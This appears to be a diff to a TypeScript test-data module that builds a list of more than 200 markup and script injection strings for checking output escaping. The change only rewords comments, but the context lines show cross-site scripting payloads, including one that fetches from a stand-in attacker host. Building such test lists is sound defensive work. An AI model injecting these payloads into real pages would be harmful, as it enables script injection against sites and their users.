@@ -1,4 +1,4 @@
-/** Texts that would run, break out or be taken for markup wherever a page or a drawing forgets to treat them as text. */
+/** Texts that would execute, break out or be parsed as markup wherever a page or an image fails to escape them. */
 
 const SCRIPTS = ['alert(1)', 'top.pwned=1', 'document.title="pwned"', 'fetch("//evil.example")']
 const TAGS = [
@@ -78,7 +78,7 @@ const FAMOUS = [
 const product = <A, B, C>(a: readonly A[], b: readonly B[], make: (a: A, b: B) => C): C[] =>
   a.flatMap((one) => b.map((other) => make(one, other)))
 
-/** More than 200 of them, all different. */
+/** More than 200, all different. */
 export const INJECTIONS: readonly string[] = [
   ...new Set([
     ...FAMOUS,
